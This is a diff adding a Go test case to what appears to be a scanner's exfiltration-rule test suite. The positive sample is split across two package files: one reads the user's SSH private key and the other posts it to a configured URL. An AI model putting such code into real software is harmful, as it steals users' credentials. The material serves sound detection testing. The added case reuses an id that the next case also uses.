@@ -393,6 +393,19 @@ describeRuleCases('exfiltration', [
       "const { version } = require('./version');\nhttps.request({ host, method: 'POST' }).end(JSON.stringify(version()));\n",
   },
   {
+    // Go: one package's files share a scope, so the key read in one file is uploaded from another.
+    id: 'SG-EXFIL-015',
+    file: 'internal/hygiene/push.go',
+    others: {
+      'internal/hygiene/collect.go':
+        'package hygiene\n\nfunc privateKeys(home string) [][]byte {\n\tb, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_ed25519"))\n\treturn [][]byte{b}\n}\n',
+    },
+    positive:
+      'package hygiene\n\nfunc push(home string) {\n\tbody, _ := json.Marshal(privateKeys(home))\n\thttp.Post(cfg.BaselineURL, "application/json", bytes.NewReader(body))\n}\n',
+    negative:
+      'package hygiene\n\nfunc push() {\n\tbody, _ := json.Marshal(map[string]string{"version": Version})\n\thttp.Post(cfg.BaselineURL, "application/json", bytes.NewReader(body))\n}\n',
+  },
+  {
     // Collected in one script, left in a hidden folder, uploaded by another: the folder links them.
     id: 'SG-EXFIL-015',
     file: 'scripts/push.mjs',
